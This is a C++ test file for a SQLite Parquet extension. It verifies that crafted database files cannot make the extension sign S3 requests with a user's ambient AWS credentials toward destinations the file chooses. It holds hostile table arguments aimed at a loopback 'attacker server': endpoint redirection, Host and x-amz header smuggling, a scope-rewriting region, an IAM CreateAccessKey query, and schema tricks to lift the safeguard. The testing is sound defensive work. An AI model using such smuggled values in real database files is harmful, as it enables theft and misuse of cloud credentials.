// Runtime tests of the credential rule (README, Security, "Remote credentials"): a database
// file made by someone else, opened by a user with (fake) AWS credentials in the
// environment or in a credentials file, must not make the extension sign a request with
// them for an endpoint, region, URL style or headers the file chose. The attacker's
// server is a real TCP listener on loopback that records every request it receives; each
// hostile case proves it received none. The application's opt-in
// (parquet_allow_ambient_credentials), a table's own credentials and an endpoint from
// the user's own environment show the other side of the rule: there the request arrives.
#include <arpa/inet.h>
#include <doctest/doctest.h>
#include <netinet/in.h>
#include <poll.h>
#include <sqlite3.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <fstream>
#include <list>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "tests/runtime/runtime_support.h"
#include "tests/unit/scoped_env.h"
#include "tests/unit/temp_dir.h"

namespace {

using runtime_support::Connection;
using runtime_support::Quote;
using test_support::CleanAwsEnvironment;
using test_support::ScopedEnv;
using test_support::TempDir;

constexpr const char* kVictimKey = "AKIAFAKEVICTIMKEY000";
constexpr const char* kVictimSecret = "fake-victim-secret-access-key";
constexpr const char* kVictimToken = "FAKE-VICTIM-SESSION-TOKEN";

// The attacker's server: accepts connections on 127.0.0.1, keeps the request head each
// one sends and answers 403.
class AttackerServer {
 public:
  AttackerServer() {
    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    REQUIRE(fd_ >= 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    REQUIRE(::bind(fd_, reinterpret_cast<sockaddr*>(&address), sizeof(address)) == 0);
    REQUIRE(::listen(fd_, 16) == 0);
    socklen_t length = sizeof(address);
    REQUIRE(::getsockname(fd_, reinterpret_cast<sockaddr*>(&address), &length) == 0);
    port_ = ntohs(address.sin_port);
    thread_ = std::thread([this] { Serve(); });
  }
  ~AttackerServer() {
    stop_ = true;
    thread_.join();
    ::close(fd_);
  }
  AttackerServer(const AttackerServer&) = delete;
  AttackerServer& operator=(const AttackerServer&) = delete;

  int port() const { return port_; }
  std::vector<std::string> Requests() {
    std::lock_guard<std::mutex> lock(mutex_);
    return requests_;
  }

 private:
  void Serve() {
    while (!stop_) {
      pollfd listening{fd_, POLLIN, 0};
      if (::poll(&listening, 1, 50) <= 0) continue;
      const int connection = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
      if (connection < 0) continue;
      std::string head;
      char buffer[4096];
      pollfd readable{connection, POLLIN, 0};
      while (head.find("\r\n\r\n") == std::string::npos && ::poll(&readable, 1, 2000) > 0) {
        const ssize_t n = ::read(connection, buffer, sizeof(buffer));
        if (n <= 0) break;
        head.append(buffer, static_cast<size_t>(n));
      }
      {
        std::lock_guard<std::mutex> lock(mutex_);
        requests_.push_back(head);
      }
      static const char kReply[] = "HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
      (void)!::write(connection, kReply, sizeof(kReply) - 1);
      ::close(connection);
    }
  }

  int fd_ = -1;
  int port_ = 0;
  std::atomic<bool> stop_{false};
  std::thread thread_;
  std::mutex mutex_;
  std::vector<std::string> requests_;
};

std::string WithPort(std::string text, int port) {
  for (size_t at; (at = text.find("PORT")) != std::string::npos;) text.replace(at, 4, std::to_string(port));
  return text;
}

// Stands in for parquet_allow_ambient_credentials while the hostile file is made.
void PlaceholderFunction(sqlite3_context* ctx, int, sqlite3_value**) { sqlite3_result_int(ctx, 0); }

// A database file whose table t is `CREATE VIRTUAL TABLE t USING parquet(<arguments>)`, as
// someone crafting the file writes it: the table is created over a local file (so that its
// stored columns exist), then its statement in sqlite_master is rewritten. `extra` is more
// schema, made without the extension (with a stand-in for parquet_allow_ambient_credentials).
void MakeHostileDatabase(const TempDir& dir, const std::string& path, const std::string& arguments,
                         const std::string& extra = "") {
  Connection author(path);
  author.Load();
  const std::string data = dir.File("data.parquet");
  REQUIRE(author.Exec("SELECT parquet_copy('SELECT 1 AS a, ''x'' AS b', " + Quote(data) + ")") == SQLITE_OK);
  REQUIRE_MESSAGE(author.Exec("CREATE VIRTUAL TABLE t USING parquet(" + Quote(data) + ")") == SQLITE_OK,
                  author.last_error());
  REQUIRE_MESSAGE(author.Exec("PRAGMA writable_schema=ON; UPDATE sqlite_master SET sql = " +
                              Quote("CREATE VIRTUAL TABLE t USING parquet(" + arguments + ")") +
                              " WHERE name = 't'; PRAGMA writable_schema=OFF;") == SQLITE_OK,
                  author.last_error());
  if (extra.empty()) return;
  Connection without_extension(path);
  REQUIRE(sqlite3_create_function(without_extension.get(), "parquet_allow_ambient_credentials", 1, SQLITE_UTF8, nullptr,
                                  PlaceholderFunction, nullptr, nullptr) == SQLITE_OK);
  REQUIRE_MESSAGE(without_extension.Exec(extra) == SQLITE_OK, without_extension.last_error());
}

// Where the victim's credentials come from.
enum class Ambient { kEnvironment, kCredentialsFile };

// Puts the victim's fake credentials where `ambient` says, for one scope.
class VictimCredentials {
 public:
  VictimCredentials(Ambient ambient, const TempDir& dir) {
    if (ambient == Ambient::kEnvironment) {
      variables_.emplace_back("AWS_ACCESS_KEY_ID", kVictimKey);
      variables_.emplace_back("AWS_SECRET_ACCESS_KEY", kVictimSecret);
      variables_.emplace_back("AWS_SESSION_TOKEN", kVictimToken);
    } else {
      const std::string file = dir.File("credentials");
      std::ofstream(file) << "[default]\naws_access_key_id = " << kVictimKey << "\naws_secret_access_key = "
                          << kVictimSecret << "\naws_session_token = " << kVictimToken << "\n";
      variables_.emplace_back("AWS_SHARED_CREDENTIALS_FILE", file.c_str());
    }
  }

 private:
  std::list<ScopedEnv> variables_;
};

const char* Describe(Ambient ambient) {
  return ambient == Ambient::kEnvironment ? "credentials in AWS_* variables" : "credentials in the credentials file";
}

bool MentionsVictim(const std::string& text) {
  return text.find(kVictimKey) != std::string::npos || text.find(kVictimSecret) != std::string::npos ||
         text.find(kVictimToken) != std::string::npos;
}

// Runs `sql`, which the attacker's 403 must fail, and checks that the first request it
// sent (after the `before` the server had seen) was signed with the victim's key id;
// returns how many requests the server has seen.
size_t ExpectSignedWithVictimKey(Connection& db, const std::string& sql, AttackerServer& attacker, size_t before) {
  CHECK(db.Exec(sql) != SQLITE_OK);
  CHECK(db.last_error().find("HTTP 403") != std::string::npos);
  const std::vector<std::string> requests = attacker.Requests();
  REQUIRE(requests.size() > before);
  CHECK(requests[before].find(std::string("Credential=") + kVictimKey) != std::string::npos);
  return requests.size();
}

// Runs `sql`, which the credential rule must fail before anything is sent.
void ExpectRefusedByRule(Connection& db, const std::string& sql, AttackerServer& attacker, size_t before) {
  CHECK(db.Exec(sql) != SQLITE_OK);
  CHECK(db.last_error().find("parquet_allow_ambient_credentials") != std::string::npos);
  CHECK(attacker.Requests().size() == before);
}

// What most cases share: a clean AWS environment, a directory, the attacker's server and
// the victim's credentials in the environment.
struct VictimWithAttacker {
  CleanAwsEnvironment clean;
  TempDir dir;
  AttackerServer attacker;
  VictimCredentials credentials{Ambient::kEnvironment, dir};
};

struct HostileTable {
  const char* what;
  const char* arguments;  // PORT: the attacker's port
  const char* error;      // what the victim's query fails with
};

const std::vector<HostileTable>& HostileTables() {
  static const std::vector<HostileTable> tables = {
      {"s3_endpoint naming the attacker's server", "'s3://bkt/data.parquet', s3_endpoint='http://127.0.0.1:PORT'",
       "parquet_allow_ambient_credentials"},
      {"a Host header for AWS, sent to the attacker",
       "'s3://bkt/data.parquet', s3_endpoint='http://127.0.0.1:PORT', http_headers='Host: s3.us-east-1.amazonaws.com'",
       "http_headers may not set host"},
      {"a Host header alone (AWS's endpoint)", "'s3://bkt/data.parquet', http_headers='Host: 127.0.0.1:PORT'",
       "http_headers may not set host"},
      {"an x-amz header", "'s3://bkt/data.parquet', http_headers='X-Amz-Date: 20200101T000000Z'",
       "http_headers may not set x-amz-date"},
      {"another header with the attacker's endpoint",
       "'s3://bkt/data.parquet', s3_endpoint='http://127.0.0.1:PORT', http_headers='X-Trace: 1'",
       "parquet_allow_ambient_credentials"},
      {"an https endpoint in path style", "'s3://bkt/data.parquet', s3_endpoint='127.0.0.1:PORT', s3_url_style='path'",
       "parquet_allow_ambient_credentials"},
      {"a region alone", "'s3://bkt/data.parquet', s3_region='eu-west-1'", "parquet_allow_ambient_credentials"},
      {"a CA bundle alone", "'s3://bkt/data.parquet', http_ca_file='/etc/ssl/certs/ca-certificates.crt'",
       "parquet_allow_ambient_credentials"},
      {"a region that rewrites the signing scope and an endpoint carrying an IAM query",
       "'s3://bkt/data.parquet', s3_region='us-east-1:iam x', "
       "s3_endpoint='http://127.0.0.1:PORT/?Action=CreateAccessKey&UserName=victim&Version=2010-05-08#'",
       "invalid s3_region"},
      {"a bucket holding the attacker's host and port (virtual-host style on AWS)", "'s3://127.0.0.1:PORT?/data.parquet'",
       "names an invalid bucket"},
  };
  return tables;
}

TEST_CASE("a database file cannot make the user's ambient S3 credentials sign a request where it chooses") {
  for (Ambient ambient : {Ambient::kEnvironment, Ambient::kCredentialsFile}) {
    for (const HostileTable& table : HostileTables()) {
      const std::string described = std::string(table.what) + "; " + Describe(ambient);
      INFO(described);
      CleanAwsEnvironment clean;
      TempDir dir;
      AttackerServer attacker;
      const std::string evil = dir.File("evil.db");
      MakeHostileDatabase(dir, evil, WithPort(table.arguments, attacker.port()));
      VictimCredentials credentials(ambient, dir);
      Connection db(evil);
      db.Load();
      CHECK(db.Exec("SELECT * FROM t") != SQLITE_OK);
      INFO(db.last_error());
      CHECK(db.last_error().find(table.error) != std::string::npos);
      CHECK_FALSE(MentionsVictim(db.last_error()));
      // Attached under another name, the same.
      Connection other(":memory:");
      other.Load();
      REQUIRE(other.Exec("ATTACH " + Quote(evil) + " AS theirs") == SQLITE_OK);
      CHECK(other.Exec("SELECT * FROM theirs.t") != SQLITE_OK);
      CHECK(other.last_error().find(table.error) != std::string::npos);
      CHECK(attacker.Requests().empty());
    }
  }
}

TEST_CASE("only the application lifts the credential rule: parquet_allow_ambient_credentials") {
  CleanAwsEnvironment clean;
  TempDir dir;
  AttackerServer attacker;
  const std::string table = WithPort("'s3://bkt/data.parquet', s3_endpoint='http://127.0.0.1:PORT'", attacker.port());
  // A file tries to lift the rule itself from a view and a trigger (SQLITE_DIRECTONLY
  // refuses both) ...
  const std::string evil = dir.File("evil.db");
  MakeHostileDatabase(dir, evil, table,
                      "CREATE VIEW lift AS SELECT parquet_allow_ambient_credentials(1) AS was;"
                      "CREATE TABLE src(a); CREATE TRIGGER lift_trigger AFTER INSERT ON src BEGIN "
                      "SELECT parquet_allow_ambient_credentials(1); END;");
  // ... and another from a CHECK constraint: SQLite before 3.52 does not apply
  // SQLITE_DIRECTONLY there to a non-deterministic function, so the function's own schema
  // check refuses; from 3.52 SQLite refuses the schema itself as malformed. Either way the
  // rule stays, even for the application's own call, and nothing is sent.
  const std::string evil_check = dir.File("evil_check.db");
  MakeHostileDatabase(dir, evil_check, table, "CREATE TABLE c(a CHECK (parquet_allow_ambient_credentials(1) >= 0));");
  VictimCredentials credentials(Ambient::kEnvironment, dir);
  {
    Connection db(evil_check);
    REQUIRE(db.Exec("SELECT count(*) FROM sqlite_master") == SQLITE_OK);  // the schema read before the load
    db.Load();
    CHECK(db.Exec("INSERT INTO c VALUES (1)") != SQLITE_OK);
    ExpectRefusedByRule(db, "SELECT * FROM t", attacker, 0);
    CHECK(db.Exec("SELECT parquet_allow_ambient_credentials(1)") != SQLITE_OK);
    const std::string error = db.last_error();
    CHECK_MESSAGE((error.find("refusing while table 'c'") != std::string::npos ||
                   error.find("unsafe use of parquet_allow_ambient_credentials") != std::string::npos),
                  error);
    ExpectRefusedByRule(db, "SELECT * FROM t", attacker, 0);
  }
  Connection db(evil);
  REQUIRE(db.Exec("SELECT count(*) FROM sqlite_master") == SQLITE_OK);
  db.Load();
  CHECK(db.Exec("SELECT * FROM lift") != SQLITE_OK);
  CHECK(db.Exec("INSERT INTO src VALUES (1)") != SQLITE_OK);
  ExpectRefusedByRule(db, "SELECT * FROM t", attacker, 0);
  // The application's own call: the request goes out signed with the ambient credentials.
  REQUIRE_MESSAGE(db.Exec("SELECT parquet_allow_ambient_credentials(1)") == SQLITE_OK, db.last_error());
  const size_t sent = ExpectSignedWithVictimKey(db, "SELECT * FROM t", attacker, 0);
  // And 0 closes it again.
  REQUIRE(db.Exec("SELECT parquet_allow_ambient_credentials(0)") == SQLITE_OK);
  ExpectRefusedByRule(db, "SELECT * FROM t", attacker, sent);
}

TEST_CASE_FIXTURE(VictimWithAttacker, "the credential rule leaves a table's own credentials and the user's own environment alone") {
  // Credentials in the table's options: used as given, with nothing of the environment's.
  const std::string own = dir.File("own.db");
  MakeHostileDatabase(dir, own,
                      WithPort("'s3://bkt/data.parquet', s3_endpoint='http://127.0.0.1:PORT', "
                               "s3_access_key_id='AKIATABLEKEY', s3_secret_access_key='table-secret'",
                               attacker.port()));
  {
    Connection db(own);
    db.Load();
    CHECK(db.Exec("SELECT * FROM t") != SQLITE_OK);
    CHECK(db.last_error().find("HTTP 403") != std::string::npos);
  }
  std::vector<std::string> requests = attacker.Requests();
  REQUIRE_FALSE(requests.empty());
  for (const std::string& request : requests) {
    CHECK(request.find("Credential=AKIATABLEKEY/") != std::string::npos);
    CHECK_FALSE(MentionsVictim(request));
  }
  const size_t before = requests.size();
  // An endpoint from the user's own environment (AWS_ENDPOINT_URL) and a table that sets
  // nothing that routes its requests: the ambient credentials sign them.
  const std::string plain = dir.File("plain.db");
  MakeHostileDatabase(dir, plain, "'s3://bkt/data.parquet'");
  ScopedEnv endpoint("AWS_ENDPOINT_URL", WithPort("http://127.0.0.1:PORT", attacker.port()).c_str());
  Connection db(plain);
  db.Load();
  ExpectSignedWithVictimKey(db, "SELECT * FROM t", attacker, before);
  CHECK(attacker.Requests()[before].find(kVictimToken) != std::string::npos);
}

TEST_CASE_FIXTURE(VictimWithAttacker, "a table the application created keeps its ambient credentials, also when connected again from the file") {
  const std::string path = dir.File("mine.db");
  const std::string arguments = WithPort("'s3://bkt/data.parquet', s3_endpoint='http://127.0.0.1:PORT'", attacker.port());
  MakeHostileDatabase(dir, path, arguments);
  Connection db(path);
  db.Load();
  ExpectRefusedByRule(db, "SELECT * FROM t", attacker, 0);
  // The application's own CREATE VIRTUAL TABLE signs (it reads the file at once: the
  // server's 403 fails it).
  const size_t created =
      ExpectSignedWithVictimKey(db, "CREATE VIRTUAL TABLE temp.mine USING parquet(" + arguments + ")", attacker, 0);
  // Connected again after SQLite reloads the schema, a table with the arguments this
  // connection created is as trusted.
  REQUIRE(db.Exec("PRAGMA writable_schema=RESET") == SQLITE_OK);
  ExpectSignedWithVictimKey(db, "SELECT * FROM t", attacker, created);
}

}  // namespace
